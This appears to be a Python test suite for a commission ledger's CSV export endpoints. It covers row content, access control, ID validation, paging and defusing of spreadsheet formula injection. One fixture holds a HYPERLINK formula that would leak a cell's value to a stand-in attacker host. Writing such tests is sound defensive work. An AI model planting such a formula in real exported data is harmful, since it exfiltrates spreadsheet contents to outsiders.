"""CSV exports of the ledger over real HTTP: content, the header row, who may export, bad IDs,
formula injection, and a ledger large enough to be streamed in several pages."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import httpx
import pytest
from starlette.types import ASGIApp, Message

from api.relay import to_global_id
from domain.actor import Actor
from domain.commissions import services as commissions
from domain.commissions.models import Commission, CommissionKind, CommissionStatus, PayoutBatch
from domain.identity import services as identity
from domain.partners import services as partners
from domain.partners.models import Enrollment
from domain.tracking import ingest
from domain.tracking.ingest_rules import ConversionSpec, Identity
from domain.tracking.models import Conversion, ConversionKind
from portal import exports
from tests.helpers import PASSWORD, Api
from tests.portal import ledger_data
from tests.portal.ledger_data import ADMIN

HOUR_AGO = datetime.now(UTC) - timedelta(hours=1)
EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
COMMISSION_HEADER = ["id", "enrollmentId", "conversionId", "kind", "amount", "currency",
                     "status", "availableAt", "createdAt", "ruleId", "ruleVersion",
                     "reason"]  # fmt: skip
PAYOUT_HEADER = ["enrollmentId", "partnerId", "partnerName", "partnerEmail", "amount",
                 "currency", "batchId", "reference"]  # fmt: skip


def gid(type_name: str, pk: int | None) -> str:
    return "" if pk is None else str(to_global_id(type_name, pk))


def utc(at: datetime) -> str:
    return at.astimezone(UTC).isoformat()


def table(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


async def export(
    client: httpx.AsyncClient, path: str, token: str | None, **params: str
) -> httpx.Response:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return await client.get(path, params=params, headers=headers)


async def app_token(scopes: list[str], partner_id: int | None = None) -> str:
    actor = Actor("partner:app" if partner_id else "admin:app", partner_id=partner_id)
    return (await identity.create_api_token(actor, "books", scopes, None)).secret


class Ledger:
    """Acme (no hold, 10 % of SALEs): Anna sold 100.00 (commission 10.00), then 25.00 of it
    was refunded (reversal -2.50); the partner named EVIL sold 50.00 (commission 5.00)."""

    program: int
    anna: Enrollment
    evil: Enrollment

    @classmethod
    async def build(cls) -> Ledger:
        ledger = cls()
        ledger.program = (await ledger_data.program("Acme", hold_days=0)).pk
        ledger.anna = await ledger_data.enroll(ledger.program, "Anna", "anna@example.com", "ANNA")
        ledger.evil = await ledger_data.enroll(ledger.program, EVIL, "evil@example.com", "EVIL")
        await ledger_data.sale(ledger.program, "s-1", "100.00", "ANNA", HOUR_AGO)
        await ledger_data.sale(ledger.program, "s-2", "50.00", "EVIL", HOUR_AGO)
        await ingest.refund_conversion(ADMIN, ledger.program, "s-1", Decimal("25.00"))
        return ledger

    async def paid_batch(self, reference: str = "SEPA-2026-001") -> PayoutBatch:
        await commissions.approve(ADMIN, self.program)
        batch = await commissions.create_payout_batch(ADMIN, self.program, 0)
        assert batch is not None
        return await commissions.mark_payout_paid(ADMIN, batch.pk, reference)


# --- commissions.csv ------------------------------------------------------------------------


async def test_commissions_export_has_a_row_per_entry_with_the_graphql_field_names(
    client: httpx.AsyncClient, api: Api
) -> None:
    ledger = await Ledger.build()
    other = await ledger_data.program("Other", hold_days=0)
    await ledger_data.enroll(other.pk, "Olga", "olga@example.com", "OLGA")
    await ledger_data.sale(other.pk, "o-1", "80.00", "OLGA", HOUR_AGO)
    admin = await api.admin_token()

    response = await export(
        client, "/exports/commissions.csv", admin, programId=gid("Program", ledger.program)
    )

    rows = table(response)
    entries = await Commission.filter(program_id=ledger.program).order_by("id")
    conversions = dict(await Conversion.all().values_list("external_id", "id"))
    assert [(e.kind, e.amount_minor) for e in entries] == [
        (CommissionKind.COMMISSION, 1000),
        (CommissionKind.COMMISSION, 500),
        (CommissionKind.REVERSAL, -250),
    ]
    sale, refund, evil = entries[0], entries[2], entries[1]
    assert rows[0] == COMMISSION_HEADER
    assert rows[1:] == [
        [gid("Commission", sale.pk), gid("Enrollment", ledger.anna.pk),
         gid("Conversion", conversions["s-1"]), "COMMISSION", "10.00", "EUR", "PENDING",
         utc(sale.available_at), utc(sale.created_at),
         gid("CommissionRule", sale.rule_id), "1", sale.reason],
        [gid("Commission", evil.pk), gid("Enrollment", ledger.evil.pk),
         gid("Conversion", conversions["s-2"]), "COMMISSION", "5.00", "EUR", "PENDING",
         utc(evil.available_at), utc(evil.created_at),
         gid("CommissionRule", evil.rule_id), "1", evil.reason],
        [gid("Commission", refund.pk), gid("Enrollment", ledger.anna.pk),
         gid("Conversion", conversions["s-1"]), "REVERSAL", "-2.50", "EUR", "PENDING",
         utc(refund.available_at), utc(refund.created_at), "", "", refund.reason],
    ]  # fmt: skip
    assert sale.available_at.tzinfo is not None
    assert rows[1][7].endswith("+00:00")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    program = gid("Program", ledger.program)
    assert response.headers["content-disposition"] == (
        f'attachment; filename="commissions-{program}.csv"'
    )
    assert response.headers["cache-control"] == "no-store"
    assert response.content.endswith(b"\r\n")


async def test_commissions_export_shows_statuses_as_they_move(
    client: httpx.AsyncClient, api: Api
) -> None:
    ledger = await Ledger.build()
    await ledger.paid_batch()
    admin = await api.admin_token()

    rows = table(
        await export(
            client, "/exports/commissions.csv", admin, programId=gid("Program", ledger.program)
        )
    )

    assert [(row[3], row[4], row[6]) for row in rows[1:]] == [
        ("COMMISSION", "10.00", "PAID"),
        ("COMMISSION", "5.00", "PAID"),
        ("REVERSAL", "-2.50", "PAID"),
    ]


async def test_an_empty_program_exports_the_header_alone(
    client: httpx.AsyncClient, api: Api
) -> None:
    program = await ledger_data.program("Quiet")
    admin = await api.admin_token()

    response = await export(
        client, "/exports/commissions.csv", admin, programId=gid("Program", program.pk)
    )

    assert table(response) == [COMMISSION_HEADER]


# --- payouts.csv ----------------------------------------------------------------------------


async def test_payouts_export_has_a_row_per_enrollment_paid(
    client: httpx.AsyncClient, api: Api
) -> None:
    ledger = await Ledger.build()
    batch = await ledger.paid_batch("SEPA-2026-001")
    admin = await api.admin_token()

    response = await export(
        client, "/exports/payouts.csv", admin, batchId=gid("PayoutBatch", batch.pk)
    )

    rows = table(response)
    batch_id = gid("PayoutBatch", batch.pk)
    assert rows == [
        PAYOUT_HEADER,
        # 10.00 earned less the 2.50 reversed
        [gid("Enrollment", ledger.anna.pk), gid("Partner", ledger.anna.partner_id), "Anna",
         "anna@example.com", "7.50", "EUR", batch_id, "SEPA-2026-001"],
        [gid("Enrollment", ledger.evil.pk), gid("Partner", ledger.evil.partner_id), "'" + EVIL,
         "evil@example.com", "5.00", "EUR", batch_id, "SEPA-2026-001"],
    ]  # fmt: skip
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="payouts-{batch_id}.csv"'
    )


async def test_an_unpaid_batch_exports_an_empty_reference(
    client: httpx.AsyncClient, api: Api
) -> None:
    ledger = await Ledger.build()
    await commissions.approve(ADMIN, ledger.program)
    batch = await commissions.create_payout_batch(ADMIN, ledger.program, 0)
    assert batch is not None
    admin = await api.admin_token()

    rows = table(
        await export(client, "/exports/payouts.csv", admin, batchId=gid("PayoutBatch", batch.pk))
    )

    assert [(row[4], row[7]) for row in rows[1:]] == [("7.50", ""), ("5.00", "")]


# --- formula injection and quoting ----------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Anna = Bob", "Anna = Bob"),
        ("", ""),
    ],
)
def test_cells_a_spreadsheet_would_run_get_an_apostrophe(cell: str, shown: str) -> None:
    assert exports.defuse(cell) == shown


async def test_names_emails_references_and_reasons_are_defused_but_amounts_are_not(
    client: httpx.AsyncClient, api: Api
) -> None:
    program = (await ledger_data.program("Acme", hold_days=0)).pk
    partner = await partners.create_partner(ADMIN, "@Mallory", "=mallory@example.com")
    await partners.enroll_partner(ADMIN, program, partner.pk, referral_code="MAL")
    await ledger_data.sale(program, "m-1", "30.00", "MAL", HOUR_AGO)
    await ledger_data.sale(program, "m-2", "20.00", "MAL", HOUR_AGO)
    await ingest.refund_conversion(ADMIN, program, "m-1", Decimal("10.00"))
    second = await Commission.get(conversion__external_id="m-2", kind=CommissionKind.COMMISSION)
    await commissions.reject(ADMIN, [second.pk], "-1 duplicate order")
    await commissions.approve(ADMIN, program)
    batch = await commissions.create_payout_batch(ADMIN, program, 0)
    assert batch is not None
    await commissions.mark_payout_paid(ADMIN, batch.pk, "+SEPA 7")
    admin = await api.admin_token()

    ledger_rows = table(
        await export(client, "/exports/commissions.csv", admin, programId=gid("Program", program))
    )
    payout_rows = table(
        await export(client, "/exports/payouts.csv", admin, batchId=gid("PayoutBatch", batch.pk))
    )

    assert [(row[3], row[4], row[6]) for row in ledger_rows[1:]] == [
        ("COMMISSION", "3.00", "PAID"),
        ("COMMISSION", "2.00", "REJECTED"),
        ("REVERSAL", "-1.00", "PAID"),  # a number: no apostrophe
    ]
    assert ledger_rows[2][11] == "'-1 duplicate order"
    assert payout_rows[1][2:5] == ["'@Mallory", "'=mallory@example.com", "2.00"]
    assert payout_rows[1][7] == "'+SEPA 7"


async def test_commas_quotes_and_line_breaks_stay_inside_their_cell(
    client: httpx.AsyncClient, api: Api
) -> None:
    ledger = await Ledger.build()
    entry = await Commission.get(enrollment_id=ledger.evil.pk, kind=CommissionKind.COMMISSION)
    await commissions.reject(ADMIN, [entry.pk], 'fraud, "self-referral"\r\nsee ticket 12')
    admin = await api.admin_token()

    response = await export(
        client, "/exports/commissions.csv", admin, programId=gid("Program", ledger.program)
    )

    rows = table(response)
    assert len(rows) == 4
    assert all(len(row) == len(COMMISSION_HEADER) for row in rows)
    assert rows[2][11] == 'fraud, "self-referral"\r\nsee ticket 12'
    assert b'"fraud, ""self-referral""\r\nsee ticket 12"' in response.content
    assert rows[0][0] == "id"


# --- who may export -------------------------------------------------------------------------


async def test_without_a_credential_or_with_a_bad_one_the_answer_is_401(
    client: httpx.AsyncClient,
) -> None:
    ledger = await Ledger.build()
    batch = await ledger.paid_batch()
    params = [
        ("/exports/commissions.csv", {"programId": gid("Program", ledger.program)}),
        ("/exports/payouts.csv", {"batchId": gid("PayoutBatch", batch.pk)}),
    ]
    for path, query in params:
        anonymous = await client.get(path, params=query)
        forged = await client.get(path, params=query, headers={"Authorization": "Bearer a.b.c"})
        unknown = await client.get(
            path, params=query, headers={"Authorization": "Bearer pgt_" + "A" * 49}
        )
        basic = await client.get(path, params=query, headers={"Authorization": "Basic YTpi"})

        assert anonymous.status_code == 401
        assert anonymous.headers["www-authenticate"] == "Bearer"
        assert anonymous.json() == {"error": "authentication required"}
        for refused in (forged, unknown, basic):
            assert refused.status_code == 401, refused.text
            assert refused.headers["www-authenticate"] == 'Bearer error="invalid_token"'
            assert "text/csv" not in refused.headers["content-type"]


async def test_a_partner_user_and_an_app_without_reports_read_get_403(
    client: httpx.AsyncClient, api: Api
) -> None:
    ledger = await Ledger.build()
    batch = await ledger.paid_batch()
    await partners.create_partner(ADMIN, "Pia", "pia@example.com", PASSWORD)
    pia = (await api.login("pia@example.com"))["access_token"]
    writer = await app_token(["programs:write", "partners:write", "tracking:write"])
    params = [
        ("/exports/commissions.csv", {"programId": gid("Program", ledger.program)}),
        ("/exports/payouts.csv", {"batchId": gid("PayoutBatch", batch.pk)}),
    ]
    for path, query in params:
        for token in (pia, writer):
            response = await export(client, path, token, **query)
            assert response.status_code == 403, response.text
            assert response.json() == {
                "error": "exports are for admins and app tokens with reports:read"
            }


async def test_an_admin_made_app_token_with_reports_read_exports_everything(
    client: httpx.AsyncClient, api: Api
) -> None:
    ledger = await Ledger.build()
    batch = await ledger.paid_batch()
    reports = await app_token(["reports:read"])
    admin = await api.admin_token()
    program = gid("Program", ledger.program)
    batch_id = gid("PayoutBatch", batch.pk)

    by_app = await export(client, "/exports/commissions.csv", reports, programId=program)
    by_admin = await export(client, "/exports/commissions.csv", admin, programId=program)
    payouts = await export(client, "/exports/payouts.csv", reports, batchId=batch_id)

    assert len(table(by_app)) == 4
    assert by_app.content == by_admin.content
    assert len(table(payouts)) == 3


async def test_a_partner_made_token_exports_only_its_partners_rows(
    client: httpx.AsyncClient,
) -> None:
    ledger = await Ledger.build()
    batch = await ledger.paid_batch()
    anna = await app_token(["reports:read"], partner_id=ledger.anna.partner_id)
    program = gid("Program", ledger.program)

    ledger_rows = table(await export(client, "/exports/commissions.csv", anna, programId=program))
    payout_rows = table(
        await export(client, "/exports/payouts.csv", anna, batchId=gid("PayoutBatch", batch.pk))
    )

    anna_enrollment = gid("Enrollment", ledger.anna.pk)
    assert [(row[1], row[4]) for row in ledger_rows[1:]] == [
        (anna_enrollment, "10.00"),
        (anna_enrollment, "-2.50"),
    ]
    assert [(row[0], row[4]) for row in payout_rows[1:]] == [(anna_enrollment, "7.50")]


async def test_a_partner_made_token_never_sees_a_referee_reward(
    client: httpx.AsyncClient,
) -> None:
    ledger = await Ledger.build()
    await Commission.create(
        program_id=ledger.program, enrollment_id=ledger.anna.pk, kind=CommissionKind.REFEREE_REWARD,
        amount_minor=500, currency="EUR", status=CommissionStatus.APPROVED, available_at=HOUR_AGO,
    )  # fmt: skip
    anna = await app_token(["reports:read"], partner_id=ledger.anna.partner_id)
    admin_app = await app_token(["reports:read"])
    program = gid("Program", ledger.program)

    as_partner = table(await export(client, "/exports/commissions.csv", anna, programId=program))
    as_admin = table(await export(client, "/exports/commissions.csv", admin_app, programId=program))

    assert [row[3] for row in as_partner[1:]] == ["COMMISSION", "REVERSAL"]
    assert [row[3] for row in as_admin[1:]] == [
        "COMMISSION", "COMMISSION", "REVERSAL", "REFEREE_REWARD",
    ]  # fmt: skip


async def test_a_partner_made_token_gets_404_outside_its_programs_and_batches(
    client: httpx.AsyncClient,
) -> None:
    ledger = await Ledger.build()
    other = await ledger_data.program("Other", hold_days=0)
    await ledger_data.enroll(other.pk, "Olga", "olga@example.com", "OLGA")
    await ledger_data.sale(other.pk, "o-1", "80.00", "OLGA", HOUR_AGO)
    await commissions.approve(ADMIN, other.pk)
    others_batch = await commissions.create_payout_batch(ADMIN, other.pk, 0)
    assert others_batch is not None
    anna = await app_token(["reports:read"], partner_id=ledger.anna.partner_id)

    program = await export(
        client, "/exports/commissions.csv", anna, programId=gid("Program", other.pk)
    )
    batch = await export(
        client, "/exports/payouts.csv", anna, batchId=gid("PayoutBatch", others_batch.pk)
    )

    assert program.status_code == 404
    assert program.json() == {"error": "no program with this ID"}
    assert batch.status_code == 404
    assert batch.json() == {"error": "no payout batch with this ID"}


# --- bad IDs --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "query", "status", "message"),
    [
        ("/exports/commissions.csv", {}, 400, "give programId, a Program ID"),
        ("/exports/commissions.csv", {"programId": ""}, 400, "give programId, a Program ID"),
        ("/exports/commissions.csv", {"programId": "%%%"}, 400, "programId is not a Program ID"),
        ("/exports/commissions.csv", {"programId": gid("Partner", 1)}, 400,
         "programId is not a Program ID"),
        ("/exports/commissions.csv", {"programId": gid("Program", 999)}, 404,
         "no program with this ID"),
        ("/exports/payouts.csv", {}, 400, "give batchId, a PayoutBatch ID"),
        ("/exports/payouts.csv", {"batchId": "not-an-id"}, 400,
         "batchId is not a PayoutBatch ID"),
        ("/exports/payouts.csv", {"batchId": gid("Program", 1)}, 400,
         "batchId is not a PayoutBatch ID"),
        ("/exports/payouts.csv", {"batchId": gid("PayoutBatch", 999)}, 404,
         "no payout batch with this ID"),
    ],
)  # fmt: skip
async def test_a_missing_or_malformed_id_is_400_and_an_unknown_one_404(
    client: httpx.AsyncClient, api: Api, path: str, query: dict[str, str], status: int,
    message: str,
) -> None:  # fmt: skip
    await ledger_data.program("Acme")
    admin = await api.admin_token()

    response = await export(client, path, admin, **query)

    assert response.status_code == status
    assert response.json() == {"error": message}


# --- a larger ledger ------------------------------------------------------------------------


async def body_messages(app: ASGIApp, path: str, query: str, token: str) -> list[bytes]:
    """GET straight through the ASGI app: the bodies of the messages it sends, as sent (httpx's
    ASGI transport joins them)."""
    scope = {
        "type": "http", "asgi": {"version": "3.0", "spec_version": "2.4"}, "http_version": "1.1",
        "method": "GET", "scheme": "http", "path": path, "raw_path": path.encode(),
        "root_path": "", "query_string": query.encode(), "server": ("testserver", 80),
        "client": ("203.0.113.7", 4321),
        "headers": [(b"host", b"testserver"), (b"authorization", f"Bearer {token}".encode())],
    }  # fmt: skip
    sent: list[Message] = []

    async def receive() -> Message:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Message) -> None:
        sent.append(message)

    await app(scope, receive, send)
    assert sent[0]["status"] == 200
    return [m["body"] for m in sent if m["type"] == "http.response.body" and m["body"]]


async def test_a_ledger_of_several_pages_is_streamed_page_by_page_in_id_order(
    client: httpx.AsyncClient, api: Api, app: ASGIApp
) -> None:
    program = (await ledger_data.program("Big", hold_days=0)).pk
    codes = ["PART0", "PART1", "PART2"]
    for n, code in enumerate(codes):
        await ledger_data.enroll(program, f"Partner {n}", f"p{n}@example.com", code)
    total = 2 * exports.PAGE + 500
    for start in range(0, total, 1000):
        items = [
            (program, ConversionSpec(f"c-{i}", ConversionKind.SALE, Decimal("1.00"), "EUR",
                                     Identity(referral_code=codes[i % 3]), HOUR_AGO))
            for i in range(start, min(start + 1000, total))
        ]  # fmt: skip
        outcome = await ingest.record_conversions(ADMIN, items)
        assert outcome.errors == []
    admin = await api.admin_token()
    program_id = gid("Program", program)

    rows = table(await export(client, "/exports/commissions.csv", admin, programId=program_id))
    chunks = await body_messages(app, "/exports/commissions.csv", f"programId={program_id}", admin)

    stored = await Commission.filter(program_id=program).order_by("id").values_list("id", flat=True)
    assert len(stored) == total
    assert rows[0] == COMMISSION_HEADER
    assert [row[0] for row in rows[1:]] == [gid("Commission", pk) for pk in stored]
    assert {row[4] for row in rows[1:]} == {"0.10"}
    # the header, then one message per page of rows: 1000, 1000, 500
    assert [chunk.count(b"\r\n") for chunk in chunks] == [1, 1000, 1000, 500]


async def test_a_batch_of_several_pages_exports_every_item_once(
    client: httpx.AsyncClient, api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = (await ledger_data.program("Many", hold_days=0)).pk
    for n in range(7):
        await ledger_data.enroll(program, f"Partner {n}", f"p{n}@example.com", f"PART{n}")
        await ledger_data.sale(program, f"s-{n}", f"{10 * (n + 1)}.00", f"PART{n}", HOUR_AGO)
    await commissions.approve(ADMIN, program)
    batch = await commissions.create_payout_batch(ADMIN, program, 0)
    assert batch is not None
    monkeypatch.setattr(exports, "PAGE", 3)  # 7 items: pages of 3, 3 and 1
    admin = await api.admin_token()

    rows = table(
        await export(client, "/exports/payouts.csv", admin, batchId=gid("PayoutBatch", batch.pk))
    )

    enrollments = await Enrollment.filter(program_id=program).order_by("id")
    # 10 % of 10.00, 20.00, ... 70.00
    assert [(row[0], row[4]) for row in rows[1:]] == [
        (gid("Enrollment", e.pk), f"{n + 1}.00") for n, e in enumerate(enrollments)
    ]
